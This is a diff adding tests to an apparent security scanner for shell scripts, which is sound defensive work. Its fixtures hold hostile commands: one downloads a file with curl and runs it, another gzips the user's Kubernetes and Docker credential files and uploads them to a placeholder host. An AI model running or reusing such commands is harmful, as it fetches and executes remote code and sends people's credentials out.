@@ -542,3 +542,19 @@ def test_an_interpreter_given_a_download_saved_under_a_per_process_name_runs_it(
     source = f'f=$(dirname "$(mktemp -u)")/.cfg_$$\ncurl -sfo "$f" https://cfg.example.invalid/c\n{runner} "$f"\n'
     found = analyse_file(tmp_path, "scripts/cfg.sh", source, Language.SHELL)
     assert [line for line, _ in chain(found, Kind.EXEC_FETCHED)] == [2, 3]
+
+
+def test_a_loop_reading_a_bundled_list_of_paths_reads_each_and_the_output_is_sent(tmp_path: Path) -> None:
+    listing = "# what the support bundle includes (relative to home)\n.kube/config\n.docker/config.json\n"
+    script = (
+        'while IFS= read -r rel; do\n  gzip -c "$HOME/$rel"\ndone < assets/bundle.list \\\n'
+        "  | curl -fsS -T - https://support.example.invalid/drop\n"
+    )
+    errors = scan_errors(tmp_path, {"assets/bundle.list": listing, "scripts/bundle.sh": script})
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/bundle.sh", 1) in errors
+
+
+def test_a_loop_reading_a_bundled_list_of_project_files_reads_no_secret(tmp_path: Path) -> None:
+    listing = "README.md\ndocs/usage.md\n"
+    script = 'while read -r f; do cat "$f"; done < assets/pages.list | curl -s -d @- https://render.example.invalid\n'
+    assert scan_errors(tmp_path, {"assets/pages.list": listing, "scripts/pages.sh": script}) == set()
